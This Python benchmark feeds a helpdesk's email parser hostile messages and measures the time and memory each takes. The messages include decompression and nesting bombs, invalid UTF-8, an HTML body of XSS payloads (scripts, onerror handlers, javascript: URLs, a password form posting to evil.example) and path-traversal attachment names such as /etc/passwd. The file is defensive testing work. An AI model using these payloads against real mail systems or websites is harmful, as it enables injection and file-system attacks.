"""Benchmark: hostile messages through parse_message, with the time and peak memory of each.

Run from the repository root: ``python benchmarks/hostile.py`` (all cases) or ``--case NAME``. Each case
runs in a subprocess of its own: the message is built first, then parsed once for the time and once
under tracemalloc for the peak of memory allocated while parsing (the input itself not counted); the
process's maximum RSS is reported too. Prints a table and the worst case; asserts nothing.

The builders here are also what ``tests/test_hostile.py`` parses and checks.
"""

from __future__ import annotations

import argparse
import base64
import gc
import gzip
import io
import json
import resource
import subprocess
import sys
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parent.parent
if str(REPO_ROOT) not in sys.path:
	sys.path.insert(0, str(REPO_ROOT))

from machhelpdesk.engine.message import parse_message  # noqa: E402

MB = 1024 * 1024


def mime(headers: dict[str, str | bytes], body: bytes) -> bytes:
	"""Return a message (or a part) from header fields and a body, LF line endings."""
	lines = [
		name.encode() + b": " + (value if isinstance(value, bytes) else value.encode())
		for name, value in headers.items()
	]
	return b"\n".join(lines) + b"\n\n" + body


def multipart(headers: dict[str, str | bytes], parts: list[bytes], boundary: str = "hostile") -> bytes:
	"""Return a multipart/mixed message of `parts` (each a header block and body from mime())."""
	delimiter = b"--" + boundary.encode()
	body = b"".join(delimiter + b"\n" + part + b"\n" for part in parts) + delimiter + b"--\n"
	return mime({**headers, "Content-Type": f'multipart/mixed; boundary="{boundary}"'}, body)


FROM = {
	"From": "Customer <customer@example.org>",
	"To": "support@example.com",
	"Message-ID": "<h@example.org>",
}


# --- the cases --------------------------------------------------------------------------------------------


def tiny_parts(count: int = 10_000) -> bytes:
	"""`count` tiny parts: even ones text, odd ones two-byte attachments named f<i>.bin."""
	parts = []
	for index in range(count):
		if index % 2:
			headers = {
				"Content-Type": "application/octet-stream",
				"Content-Disposition": f"attachment; filename=f{index}.bin",
			}
			parts.append(mime(headers, b"%02d" % (index % 100)))
		else:
			parts.append(mime({"Content-Type": "text/plain"}, b"part %d" % index))
	return multipart({**FROM, "Subject": "ten thousand parts"}, parts)


def nested_messages(levels: int = 100) -> bytes:
	"""message/rfc822 in multipart/mixed in message/rfc822 ... `levels` deep; level N says "text N"."""
	inner = mime(
		{"From": "deep@example.org", "Subject": "level 0", "Message-ID": "<level-0@example.org>"}, b"text 0"
	)
	for level in range(1, levels + 1):
		inner = multipart(
			{
				"From": "deep@example.org",
				"Subject": f"level {level}",
				"Message-ID": f"<level-{level}@example.org>",
			},
			[
				mime({"Content-Type": "text/plain"}, b"text %d" % level),
				mime({"Content-Type": "message/rfc822"}, inner),
			],
			boundary=f"level{level}",
		)
	return multipart(
		{**FROM, "Subject": "forwarded a hundred times"},
		[mime({"Content-Type": "text/plain"}, b"top text"), mime({"Content-Type": "message/rfc822"}, inner)],
	)


def big_attachment(size: int = 50 * MB) -> bytes:
	"""A text part and a `size`-byte base64 image/png attachment named big.png."""
	content = b"\x89PNG\r\n\x1a\n" + b"\x00" * (size - 8)
	return multipart(
		{**FROM, "Subject": "a big picture"},
		[
			mime({"Content-Type": "text/plain"}, b"see attached"),
			mime(
				{
					"Content-Type": "image/png",
					"Content-Disposition": "attachment; filename=big.png",
					"Content-Transfer-Encoding": "base64",
				},
				base64.encodebytes(content),
			),
		],
	)


def megabyte_subject() -> bytes:
	"""A 1 MB subject made of RFC 2047 encoded words (each decodes to "é")."""
	return mime({**FROM, "Subject": b"=?utf-8?b?w6k=?= " * (MB // 17)}, b"body")


def many_recipients(count: int = 5000) -> bytes:
	"""`count` To and `count` Cc recipients, with encoded display names and groups."""
	to = ", ".join(f"=?utf-8?q?Empf=C3=A4nger_{index}?= <user{index}@example.com>" for index in range(count))
	cc = ", ".join(f"group{index}: member{index}@example.net;" for index in range(count))
	return mime({**FROM, "To": to, "Cc": cc, "Subject": "everyone"}, b"body")


def megabyte_header_line() -> bytes:
	"""A 1 MB header line without a single space (nothing to fold at), and 1 MB of folded continuations."""
	return mime(
		{**FROM, "Subject": "long headers", "X-Long": "x" * MB, "Received": "from a\n\tby b" * (MB // 13)},
		b"body",
	)


def base64_bomb(text_mb: int = 12, junk_mb: int = 30) -> bytes:
	"""A base64 body part that decodes to `text_mb` MB of text, and a `junk_mb` MB base64 attachment with
	a line break after every character. Base64 never grows when decoded; the trap is the work per line
	(the stdlib parser keeps one string per line) and decoding an attachment only to drop it."""
	sentence = b"all work and no play "
	text = base64.encodebytes(sentence * (text_mb * MB // len(sentence)))
	junk = b"A\n" * (junk_mb * MB // 2)
	return multipart(
		{**FROM, "Subject": "big base64"},
		[
			mime({"Content-Type": "text/plain", "Content-Transfer-Encoding": "base64"}, text),
			mime(
				{
					"Content-Type": "application/octet-stream",
					"Content-Disposition": "attachment; filename=zeros.bin",
					"Content-Transfer-Encoding": "base64",
				},
				junk,
			),
		],
	)


def quoted_printable_blowup() -> bytes:
	"""Quoted-printable text: 4 MB of soft line breaks, a 4 MB single line of =XX escapes, broken escapes."""
	body = b"=\n" * (2 * MB) + b"=41" * (4 * MB // 3) + b"\n=ZZ=4=\n=" + b"\n"
	return mime({**FROM, "Subject": "qp", "Content-Transfer-Encoding": "quoted-printable"}, body)


def compressed_attachments(size: int = 64 * MB) -> tuple[bytes, dict[str, bytes]]:
	"""A gzip and a zip file of `size` zero bytes, attached, and a gzip-compressed text part marked with
	Content-Encoding and one with the non-standard Content-Transfer-Encoding gzip. Returns the message
	and the compressed attachments by file name."""
	zeros = b"\x00" * size
	gzipped = gzip.compress(zeros, compresslevel=9, mtime=0)
	buffer = io.BytesIO()
	with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
		archive.writestr("zeros.txt", zeros)
	files = {"zeros.gz": gzipped, "zeros.zip": buffer.getvalue()}
	text = gzip.compress(b"hello " * MB, mtime=0)
	parts = [
		mime(
			{"Content-Type": "text/plain", "Content-Encoding": "gzip", "Content-Transfer-Encoding": "base64"},
			base64.encodebytes(text),
		),
		mime({"Content-Type": "text/plain", "Content-Transfer-Encoding": "gzip"}, text),
	]
	for name, content in files.items():
		kind = "application/gzip" if name.endswith(".gz") else "application/zip"
		headers = {
			"Content-Type": kind,
			"Content-Disposition": f"attachment; filename={name}",
			"Content-Transfer-Encoding": "base64",
		}
		parts.append(mime(headers, base64.encodebytes(content)))
	return multipart({**FROM, "Subject": "archives"}, parts), files


def nul_and_invalid_utf8() -> bytes:
	"""NUL bytes and invalid UTF-8 in every header field, the parameters, the file name and both bodies."""
	bad = b"\x00\xff\xfe\xc3(\xed\xa0\x80\x00"
	headers = {
		"From": b'"Ali' + bad + b'ce" <alice@example.org>',
		"To": b"support@example.com, " + bad + b" <x" + bad + b"@example.com>",
		"Cc": b"=?utf-8?b?" + base64.b64encode(bad) + b"?= <cc@example.com>",
		"Reply-To": b"reply" + bad + b"@example.org",
		"Subject": b"Hello " + bad + b" =?utf-8?q?w=00rld=FF?=",
		"Message-ID": b"<id" + bad + b"@example.org>",
		"In-Reply-To": b"<parent@example.org" + bad + b">",
		"References": bad + b" <ref@example.org> " + bad,
		"Date": b"Mon, 1 Jan 2024 " + bad,
		"X-Custom": bad,
		"Auto-Submitted": b"no" + bad,
	}
	parts = [
		mime({"Content-Type": b"text/plain; charset=utf-8" + bad}, b"plain " + bad + b" text"),
		mime({"Content-Type": "text/html; charset=utf-8"}, b"<p>html " + bad + b" text</p>"),
		mime(
			{
				"Content-Type": "text/plain",
				"Content-Disposition": b'attachment; filename="re' + bad + b'port.txt"',
			},
			b"file",
		),
	]
	return multipart({**FROM, **headers}, parts)


XSS_HTML = b"""<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css">
<style>@import url(http://evil.example/x.css); body { background: url(http://evil.example/bg.png) }</style>
<script>alert(1)</script></head><body onload="alert(1)">
<p>Hello <img src=x onerror=alert(1)> <img src="http://tracker.example/pixel.gif" width=1 height=1>
<img src="//tracker.example/p.gif"> <img srcset="http://evil.example/a.png 1x"></p>
<a href="javascript:alert(1)">one</a> <a href="JaVaScRiPt&#58;alert(1)">two</a>
<a href="java&#x09;script:alert(1)">three</a> <a href=" javascript:alert(1)">four</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">five</a>
<a href="vbscript:msgbox(1)">six</a> <a href="https://example.org/ok">fine link</a>
<svg onload=alert(1)><circle r=1 /></svg> <math><mi xlink:href="javascript:alert(1)">m</mi></math>
<div style="width: expression(alert(1)); color: red">css expression</div>
<div style="background-image: url('http://evil.example/bg.png')">css url</div>
<table background="http://evil.example/t.png"><tr><td>cell</td></tr></table>
<form action="http://evil.example/steal"><input name="password"><button formaction="http://evil.example/">go</button></form>
<iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object>
<embed src="http://evil.example/x.swf"><video poster="http://evil.example/p.png"></video>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<svg><style><img src=x onerror=alert(1)></style></svg>
<p>end</p></body></html>"""


def xss() -> bytes:
	"""XSS vectors in the subject, the From name and an HTML body (scripts, handlers, script URLs, CSS
	expressions, remote images, forms, frames, meta refresh, mutation-XSS shapes)."""
	headers = {
		"From": '"<img src=x onerror=alert(1)>" <evil@example.org>',
		"To": "support@example.com",
		"Message-ID": "<xss@example.org>",
		"Subject": "<script>alert(1)</script> =?utf-8?b?PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+?=",
		"Content-Type": "text/html; charset=utf-8",
	}
	return mime(headers, XSS_HTML)


HOSTILE_FILENAMES = (
	"../../x/passwd",
	"/etc/passwd",
	"C:\\Windows\\System32\\evil.exe",
	"..\\..\\boot.ini",
	"a" * 300 + ".pdf",
	"é" * 200 + ".txt",
	"evil\x00.exe.txt",
	"..",
	".",
	".htaccess",
	"   ",
	"file\u202egnp.exe",
	"con.txt",
	"\x00\x00",
)


def hostile_filenames() -> bytes:
	"""One attachment per name of HOSTILE_FILENAMES (quoted, RFC 2231-encoded when not ASCII), then three
	whose path arrives encoded: RFC 2231 %2F, an RFC 2047 word, and a 300-byte RFC 2231 continuation."""
	parts = []
	for name in HOSTILE_FILENAMES:
		if name.isascii():
			escaped = name.replace("\\", "\\\\").replace('"', '\\"')
			disposition = f'attachment; filename="{escaped}"'.encode()
		else:
			encoded = "".join(f"%{byte:02X}" for byte in name.encode("utf-8"))
			disposition = f"attachment; filename*=utf-8''{encoded}".encode()
		parts.append(
			mime({"Content-Type": "application/octet-stream", "Content-Disposition": disposition}, b"x")
		)
	for disposition in (
		"attachment; filename*=utf-8''..%2F..%2Fetc%2Fshadow",
		'attachment; filename="=?utf-8?q?..=2F..=2Fsecret.txt?="',
		"attachment; filename*0*=utf-8''" + "%2E%2E%2F" * 50 + "; filename*1=" + "b" * 150 + ".txt",
	):
		parts.append(
			mime({"Content-Type": "application/octet-stream", "Content-Disposition": disposition}, b"x")
		)
	return multipart({**FROM, "Subject": "names"}, parts)


# name -> (builder returning the raw message, keyword arguments for parse_message)
CASES: dict[str, tuple[Callable[[], bytes], dict[str, int]]] = {
	"10,000 tiny parts": (tiny_parts, {}),
	"message/rfc822 100 deep": (nested_messages, {}),
	"50 MB attachment, 10 MB limit": (big_attachment, {"max_attachment_size": 10 * MB}),
	"1 MB subject": (megabyte_subject, {}),
	"5,000 recipients": (many_recipients, {}),
	"1 MB header lines": (megabyte_header_line, {}),
	"base64, 15 M lines, 1 MB limit": (base64_bomb, {"max_attachment_size": MB}),
	"quoted-printable blowup": (quoted_printable_blowup, {}),
	"gzip/zip of 64 MB zeros": (lambda: compressed_attachments()[0], {}),
	"NUL + invalid UTF-8 everywhere": (nul_and_invalid_utf8, {}),
	"XSS vectors": (xss, {}),
	"hostile file names": (hostile_filenames, {}),
}


# --- measuring ----------------------------------------------------------------------------------------------


def measure(name: str) -> dict[str, float | str]:
	"""Build one case, parse it for the time, parse it again under tracemalloc for the peak."""
	builder, options = CASES[name]
	raw = builder()
	gc.collect()
	started = time.perf_counter()
	parse_message(raw, **options)
	seconds = time.perf_counter() - started
	gc.collect()
	tracemalloc.start()
	parse_message(raw, **options)
	_current, peak = tracemalloc.get_traced_memory()
	tracemalloc.stop()
	max_rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux
	return {
		"case": name,
		"input_mb": len(raw) / MB,
		"seconds": seconds,
		"peak_mb": peak / MB,
		"max_rss_mb": max_rss,
	}


def main() -> int:
	parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
	parser.add_argument("--case", choices=sorted(CASES), help="run one case in this process, print JSON")
	args = parser.parse_args()
	if args.case:
		print(json.dumps(measure(args.case)))
		return 0
	rows = []
	print(f"{'case':34} {'input MB':>9} {'time s':>8} {'peak MB':>9} {'max RSS MB':>11}")
	for name in CASES:
		result = subprocess.run(
			[sys.executable, __file__, "--case", name], capture_output=True, text=True, check=False
		)
		if result.returncode != 0:
			print(f"{name:34} failed: {result.stderr.strip().splitlines()[-1:]}")
			continue
		row = json.loads(result.stdout)
		rows.append(row)
		print(
			f"{name:34} {row['input_mb']:9.1f} {row['seconds']:8.3f} {row['peak_mb']:9.1f} {row['max_rss_mb']:11.1f}",
			flush=True,
		)
	if rows:
		slowest = max(rows, key=lambda row: row["seconds"])
		hungriest = max(rows, key=lambda row: row["peak_mb"])
		print(f"worst time: {slowest['case']} ({slowest['seconds']:.3f} s)")
		print(f"worst peak memory while parsing: {hungriest['case']} ({hungriest['peak_mb']:.1f} MB)")
	return 0


if __name__ == "__main__":
	sys.exit(main())
